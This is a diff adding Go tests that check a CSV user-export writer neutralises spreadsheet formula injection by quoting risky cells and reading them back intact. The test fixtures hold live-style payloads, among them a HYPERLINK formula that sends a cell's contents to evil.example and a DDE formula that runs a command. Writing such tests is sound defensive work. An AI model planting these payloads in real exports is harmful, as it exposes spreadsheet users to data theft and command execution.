@@ -196,3 +196,79 @@ func FuzzReader(f *testing.F) {
 		t.Fatalf("more records than bytes in %q", data)
 	})
 }
+
+// TestCSVCellsRunNoFormula: a value a spreadsheet would run as a formula
+// (or one it strips a tab or a carriage return from first) is written with
+// a quote before it, and read back as it was; so is one that starts with a
+// quote. Others are written as they are.
+func TestCSVCellsRunNoFormula(t *testing.T) {
+	t.Parallel()
+	tests := []struct{ value, cell string }{
+		{`=HYPERLINK("https://evil.example/?h="&H3,"Click")`, `'=HYPERLINK("https://evil.example/?h="&H3,"Click")`},
+		{"+1-555", "'+1-555"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\t=1", "'\t=1"},
+		{"\r=1", "'\r=1"},
+		{"'=1", "''=1"},
+		{"'", "''"},
+		{"O'Brien", "O'Brien"},
+		{"a=b", "a=b"},
+		{"", ""},
+		{"$argon2id$v=19", "$argon2id$v=19"},
+	}
+	for _, tt := range tests {
+		if got := toCell(tt.value); got != tt.cell {
+			t.Errorf("toCell(%q) = %q, want %q", tt.value, got, tt.cell)
+		}
+		if got := fromCell(tt.cell); got != tt.value {
+			t.Errorf("fromCell(%q) = %q, want %q", tt.cell, got, tt.value)
+		}
+	}
+	// Through a whole file: every text column.
+	evil := "=cmd|' /C calc'!A0"
+	var buf bytes.Buffer
+	w, err := NewWriter(&buf, CSV)
+	if err != nil {
+		t.Fatal(err)
+	}
+	u := &usher.ExportUser{User: &usher.User{Username: "mallory", Email: "-x@evil.example", Name: evil, FirstName: evil,
+		LastName: "+" + evil, DisplayName: "@" + evil, ExternalID: evil, State: usher.StateActive, Kind: usher.KindNormal},
+		Emails: []*usher.Email{{Email: "=y@evil.example"}}}
+	if err := w.Write(u); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(buf.String(), ",=") || strings.Contains(buf.String(), ",+") || strings.Contains(buf.String(), ",@") ||
+		strings.Contains(buf.String(), ",-") || strings.Contains(buf.String(), `,"=`) {
+		t.Fatalf("a cell starts a formula:\n%s", buf.String())
+	}
+	users, _, bad := readAll(t, buf.String(), CSV)
+	if len(bad) > 0 || len(users) != 1 {
+		t.Fatalf("read back %d users, errors %v", len(users), bad)
+	}
+	got := users[0]
+	if got.Email != u.User.Email || got.Name != evil || got.FirstName != evil || got.LastName != u.User.LastName ||
+		got.DisplayName != u.User.DisplayName || got.ExternalID != evil || len(got.Emails) != 1 || got.Emails[0] != "=y@evil.example" {
+		t.Fatalf("came back as %+v", got)
+	}
+}
+
+// FuzzCSVCell: every value comes back from its cell as it was, and no cell
+// starts with what a spreadsheet runs.
+func FuzzCSVCell(f *testing.F) {
+	for _, s := range []string{"=1", "'", "''=", "a", "", "\t", "-"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, v string) {
+		cell := toCell(v)
+		if cell != "" && strings.IndexByte(formulaStart, cell[0]) >= 0 {
+			t.Fatalf("toCell(%q) = %q starts a formula", v, cell)
+		}
+		if back := fromCell(cell); back != v {
+			t.Fatalf("fromCell(toCell(%q)) = %q", v, back)
+		}
+	})
+}
